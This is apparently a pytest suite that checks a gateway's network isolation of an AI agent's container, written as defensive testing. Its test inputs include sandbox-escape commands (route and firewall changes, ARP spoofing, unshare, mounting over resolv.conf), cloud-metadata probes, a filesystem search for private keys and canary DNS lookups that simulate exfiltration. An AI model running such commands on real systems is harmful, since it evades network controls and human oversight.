"""The adversary in the running stack: as the agent's user and as root in the agent's container.

Every denial has its control: an allowed host answers meanwhile, and what is denied here is reached from a container that
the gateway does not hold.
"""
# SPDX-License-Identifier: GPL-3.0-or-later

import json
import secrets

import pytest

import probes
from lab import addresses as at
from lab import dns_wire as dns
from lab import wait
from world import HOST_OUTSIDE

threat = pytest.mark.threat
PORTS = (21, 22, 25, 53, 110, 123, 143, 853, 993, 1080, 2375, 3128, 3306, 5432, 6379, 8000, 8080, 8443, 9999, 65535)


@pytest.fixture(params=["dev", "root"])
def user(request):
    return request.param


@pytest.fixture
def canary():
    return secrets.token_hex(8)


@pytest.fixture(autouse=True)
def nothing_leaks_and_allowed_hosts_work(stack, world, canary):
    """Around every case: the attacker's box sees nothing, the name server no canary, and the agent can still work."""
    events, asked = world.ev.mark(), world.ns.mark()
    yield
    assert stack.agent("curl", "-sS", "https://allowed.test/").stdout == "AL\n"
    assert world.ev.since(events) == []
    assert world.ns.since(asked, canary) == []


def attempts(canary, host, ports=PORTS):
    return json.dumps([[host, port, canary] for port in ports])


@threat("T002")
@pytest.mark.parametrize("host", [at.EV, at.AL])
def test_other_tcp_ports_are_refused_at_once(stack, user, canary, host):
    outcomes = stack.python(probes.TCP, attempts(canary, host, [port for port in PORTS if port != 53]), user=user)
    assert set(outcomes) == {"refused"}


@threat("T001", "T002")
@pytest.mark.parametrize("host", [at.EV, at.AL])
def test_udp_is_refused(stack, user, canary, host):
    outcomes = stack.python(probes.UDP, attempts(canary, host, (80, 123, 443, 853, 9999)), user=user)
    assert "answered" not in outcomes and "silence" not in outcomes, outcomes


@threat("T003", "T004", "T005", "T006", "T007", "T010", "T015", "T020")
def test_nothing_below_tcp_and_udp_can_be_sent(stack, user, canary):
    said = stack.python(probes.RAW, json.dumps([at.EV, canary]), user=user)
    for kind in ("icmp", "gre", "packet", "mark"):  # the privileged ones: sources, fragments, options, frames, marks
        assert said[kind] == "PermissionError1", said
    assert "sent" not in said.values() or said["ping"] == "sent", said  # a ping may be sent; it does not arrive


@threat("T008", "T009", "T011")
def test_ipv6_leads_nowhere(stack, user, canary):
    mapped = f"::ffff:{at.EV}"
    outcomes = stack.python(probes.TCP, json.dumps([[at.EV6, 443, canary], [mapped, 9999, canary], ["fe80::1%eth0", 22, canary]]),
                            user=user)
    assert "connected" not in outcomes
    assert "answered" not in stack.python(probes.UDP, json.dumps([[at.EV6, 443, canary]]), user=user)


@threat("T012")
@pytest.mark.parametrize("command", [
    "ip route replace default via {bridge}", "ip route add {ev} via {bridge}", "ip addr add {net}.77/24 dev eth0",
    "ip link set eth0 down", "ip link add x type dummy", "nft flush ruleset", "nft list ruleset",
    "sysctl -w net.ipv4.ip_forward=1", "sysctl -w net.ipv6.conf.all.disable_ipv6=0", "unshare -rn true",
    "mount --bind /etc/hostname /etc/resolv.conf", "ip neigh replace {gateway} lladdr 02:00:00:00:00:01 dev eth0",
])  # fmt: skip
def test_the_network_cannot_be_changed_from_inside(stack, user, command):
    line = command.format(bridge=stack.bridge, ev=at.EV, net=stack.net, gateway=stack.gateway)
    assert stack.agent(*line.split(), user=user, check=False).returncode != 0


@threat("T012")
def test_no_process_of_the_agent_has_or_can_gain_a_capability(stack, user):
    powers = stack.python(probes.POWERS, user=user)
    assert powers.pop("NoNewPrivs") == "1"
    assert set(powers.values()) == {"0" * 16}, powers


def machine_addresses(engine, stack):
    gateways = [config["Gateway"] for name in ("inside", "egress")
                for config in engine.inspect(f"{stack.name}_{name}")["IPAM"]["Config"]]
    return ["172.30.0.1", HOST_OUTSIDE, *gateways]


@threat("T013")
def test_services_of_the_machine_are_out_of_reach(engine, stack, images, user, canary, host_service):
    addresses = machine_addresses(engine, stack)
    before = host_service.connections
    for address in addresses:
        assert stack.python(probes.TCP, attempts(canary, address, (22, 2375, 8888)), user=user) == ["refused"] * 3
        assert "answered" not in stack.python(probes.UDP, attempts(canary, address, (111, 137, 1900, 5353)), user=user)
    assert host_service.connections == before
    # The control: from an ordinary container of the same engine they are reached.
    probe = ["run", "--rm", images.debian, "python3", "-c", probes.TCP]
    assert json.loads(engine.docker(*probe, attempts(canary, addresses[0], (8888,))).stdout) == ["connected"]
    wait.until(lambda: host_service.connections == before + 1, "the service to be reached by the control")


@threat("T013", "T040")
def test_cloud_metadata_is_refused(stack, user, canary):
    outcomes = stack.python(probes.TCP, attempts(canary, "169.254.169.254", (22, 8080)), user=user)
    assert outcomes == ["refused", "refused"]
    answer = stack.agent("curl", "-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "http://169.254.169.254/latest/",
                         user=user, check=False).stdout
    assert answer.startswith(("4", "000")), answer


@pytest.fixture(scope="module")
def neighbour(engine, stack, images):
    """Somebody's container on the agents' network, with a service and a second network that leads out."""
    name = f"{stack.name}-neighbour"
    engine.docker("run", "-d", "--name", name, "--network", f"{stack.name}_inside", images.debian, "python3", "-m",
                  "http.server", "8000")
    engine.docker("network", "connect", f"{stack.name}_egress", name)
    yield engine.inspect(name)["NetworkSettings"]["Networks"][f"{stack.name}_inside"]["IPAddress"]
    engine.docker("rm", "-f", name)


@threat("T016")
def test_neighbours_are_out_of_reach(engine, stack, images, user, canary, neighbour):
    assert stack.python(probes.TCP, attempts(canary, neighbour, (22, 8000, 3128)), user=user) == ["refused"] * 3
    probe = ["run", "--rm", "--network", f"{stack.name}_inside", images.debian, "python3", "-c", probes.TCP]
    assert json.loads(engine.docker(*probe, attempts(canary, neighbour, (8000,))).stdout) == ["connected"]


@threat("T016")
def test_the_agent_has_one_network(stack, user):
    links = json.loads(stack.agent("ip", "-j", "link", user=user).stdout)
    assert sorted(link["ifname"] for link in links) == ["eth0", "lo"]
    assert "only one network: the gateway's" in stack.agent("gateway", "doctor", user=user).stdout


# --- DNS (B.2, B.3) ---


ASK = """
import json, socket, sys
server, message = json.loads(sys.argv[1])
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    link.settimeout(5)
    try:
        link.sendto(bytes.fromhex(message), (server, 53))
        print(json.dumps(link.recv(4096).hex()))
    except OSError as error:
        print(json.dumps(None))
"""


@threat("T034", "T037", "T038")
@pytest.mark.parametrize("server", ["127.0.0.11", "gateway", at.NS, at.EV, "8.8.8.8"])
def test_whatever_resolver_is_asked_no_denied_name_goes_upstream(stack, user, canary, server):
    address = stack.gateway if server == "gateway" else server
    question = dns.question(f"{canary}.evil.test")
    answer = stack.python(ASK, json.dumps([address, question.hex()]), user=user)
    if answer is not None:
        assert at.EV not in dns.parse(bytes.fromhex(answer)).addresses()


@threat("T038")
def test_the_engines_resolver_is_no_way_around(stack, world, user, canary):
    asked = world.ns.mark()
    stack.agent("getent", "hosts", f"{canary}.denied.test", user=user, check=False)
    assert world.ns.since(asked, canary) == []
    assert stack.agent("getent", "hosts", "allowed.test", user=user).stdout.split()[0] == at.AL


# --- the control plane (B.9) ---


def listening(engine, container):
    """Every TCP port that the container's processes listen on, and UDP ports that they have bound."""
    process = engine.inspect(container)["State"]["Pid"]
    ports = {"tcp": set(), "udp": set()}
    for table in ("tcp", "tcp6", "udp", "udp6"):
        with open(f"/proc/{process}/net/{table}", encoding="ascii") as lines:
            for fields in (line.split() for line in list(lines)[1:]):
                address, state = fields[1], fields[3]
                if state in ("0A", "07") and not address.startswith("0B00007F"):  # the engine's resolver is its own
                    ports[table[:3]].add(int(address.rpartition(":")[2], 16))
    return ports


@threat("T127", "T128", "T017")
def test_of_the_gateway_only_its_doors_answer(engine, stack, user, canary):
    ports = listening(engine, stack.container("proxy"))
    assert ports["tcp"] and ports["udp"]
    own = engine.inspect(stack.container("proxy"))["NetworkSettings"]["Networks"]
    for address in (stack.gateway, *(network["IPAddress"] for network in own.values())):
        tried = sorted(ports["tcp"] - {8080} | {22, 9090, 9100, 8081})
        outcomes = stack.python(probes.TCP, attempts(canary, address, tried), user=user)
        assert set(outcomes) == {"refused"}, (address, dict(zip(tried, outcomes, strict=True)))
        assert "answered" not in stack.python(probes.UDP, attempts(canary, address, sorted(ports["udp"])), user=user)
    assert stack.python(probes.TCP, attempts(canary, stack.gateway, (53, 80, 443, 8080)), user=user) == ["connected"] * 4


@threat("T127")
@pytest.mark.parametrize("path", ["/metrics", "/health", "/reload", "/admin", "/debug/pprof"])
def test_the_gateways_address_serves_no_control(stack, user, path):
    answer = stack.agent("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", f"http://{stack.gateway}{path}", user=user, check=False)
    assert answer.stdout[:1] == "4", answer.stdout


@threat("T110", "T111")
def test_no_private_key_is_to_be_found(stack, user):
    found = stack.agent("sh", "-c", "grep -rlsI -m1 'PRIVATE KEY-----' /etc /home /run /var /opt /tmp /workspace | grep -v python", user=user,
                        check=False).stdout
    assert found == ""
    assert stack.agent("touch", "/etc/mitmproxy/x", user=user, check=False).returncode != 0


def files_below(folder):
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


@threat("T126")
@pytest.mark.parametrize("line", [
    "echo services: [] >> .devcontainer/policy.yaml", "rm -f .devcontainer/policy.yaml", "touch .devcontainer/new",
    "mv .devcontainer moved", "rm -rf .devcontainer", "echo x >> .env", "rm -f .env", "mv .env moved", "ln -sf /tmp/x .env",
])  # fmt: skip
def test_what_starts_the_stack_cannot_be_written(stack, user, line):
    before = files_below(stack.folder)
    assert stack.agent("sh", "-c", f"cd /workspace && {line}", user=user, check=False).returncode != 0
    assert files_below(stack.folder) == before
    # The control: the rest of the project is the agent's.
    stack.agent("sh", "-c", "cd /workspace && echo mine > ours && rm ours")


def test_the_log_names_who_tried_what(stack, user, canary):
    stack.agent("curl", "-sS", f"http://{canary}.denied.test/", user=user)
    found = [record for record in stack.decisions() if record.get("host") == f"{canary}.denied.test" and record["phase"] == "http"]
    assert [record["action"] for record in found] == ["blocked"]
    assert found[0]["client"].startswith(stack.net)
